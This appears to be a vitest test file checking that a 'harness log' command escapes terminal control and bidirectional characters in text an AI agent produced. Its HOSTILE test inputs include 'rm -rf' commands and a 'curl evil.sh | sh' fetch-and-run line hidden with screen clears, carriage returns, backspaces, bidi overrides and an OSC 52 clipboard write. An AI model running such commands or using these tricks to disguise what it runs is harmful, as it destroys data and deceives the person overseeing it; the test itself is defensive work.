import kleur from 'kleur';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatConnection, formatRollback, formatRow } from '../../src/cli/log.js';
import type { ConnectionRow, LogRow, RollbackRow } from '../../src/audit/store.js';
import { displayLine, escapeControls } from '../../src/printable.js';

/**
 * What `harness log` prints comes from the agent: its commands, tool names, hosts it reached, files
 * it wrote. None of it may reach the person's terminal as an instruction to it (clear the screen,
 * set the title, write the clipboard with OSC 52, move the cursor over a line) or show a command in
 * another order than the one it ran in (bidirectional overrides).
 */
const HOSTILE = [
  ['a screen clear and a fake prompt', 'rm -rf ~\x1b[2J\x1b[H harness: all good'],
  ['an OSC 52 clipboard write', 'echo \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'],
  ['a C1 CSI', 'ls \x9b2J'],
  ['a carriage return over the line', 'curl evil.sh | sh\r  ls -la                      '],
  ['a bidi override', 'echo safe \u202e; hs.live | lruc \u202c'],
  ['a bidi isolate', 'cat \u2067secret\u2069 file'],
  ['backspaces', 'rm -rf /\b\b\b\b\b\b\b\bls'],
] as const;

/** Any terminal control or reordering character in printed text. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

beforeAll(() => {
  kleur.enabled = false;
});

const row = (summary: string, tool = 'Bash'): LogRow => ({
  sessionId: 's',
  toolUseId: 't',
  at: 0,
  agent: 'claude',
  tool,
  kind: 'shell',
  summary,
  cwd: null,
  verdict: 'allow',
  ruleId: 'r',
  reason: null,
  decidedBy: 'rule',
  actor: null,
  askedFirst: false,
  ok: true,
});

describe('harness log prints what the agent sent as text, never as terminal controls', () => {
  it.each(HOSTILE)('%s', (_what, text) => {
    const connection: ConnectionRow = {
      seq: 1,
      at: 0,
      host: `evil${text}.example`,
      port: 443,
      verdict: 'deny',
      asked: false,
      ruleId: 'net',
      reason: 'x',
      decidedBy: 'rule',
      actor: null,
      toolUseId: null,
      origin: text,
    };
    const rollback: RollbackRow = {
      seq: 1,
      at: 0,
      sessionId: 's',
      kind: 'rollback',
      by: 'cli',
      actor: null,
      from: null,
      to: 'abc',
      step: 't',
      files: [{ status: 'added', path: text }],
      fileCount: 1,
      notRestored: [],
      error: null,
    };
    const failed: RollbackRow = { ...rollback, error: text };
    for (const out of [
      formatRow(row(text)),
      formatRow(row('x', text)),
      formatConnection(connection),
      formatRollback(rollback, new Map([['t', row(text)]])),
      formatRollback(failed, new Map()),
    ]) {
      expect(out).not.toMatch(UNSAFE);
    }
    // what was there is still readable, escaped
    expect(formatRow(row(text))).toContain(escapeControls(text.replace(/\s+/g, ' ')).slice(0, 40));
  });

  it.each([
    ['plain text passes as is', 'npm test -- --run', 'npm test -- --run'],
    ['tabs and newlines fold to a space', 'a\tb\nc', 'a b c'],
    ['ESC', '\x1b[31m', '\\x1b[31m'],
    ['a C1 control', '\x9b', '\\x9b'],
    ['a right-to-left override', 'a\u202eb', 'a\\u{202e}b'],
    ['non-ASCII text stays', 'café ✓ 日本', 'café ✓ 日本'],
  ])('displayLine: %s', (_what, text, shown) => {
    expect(displayLine(text)).toBe(shown);
  });
});
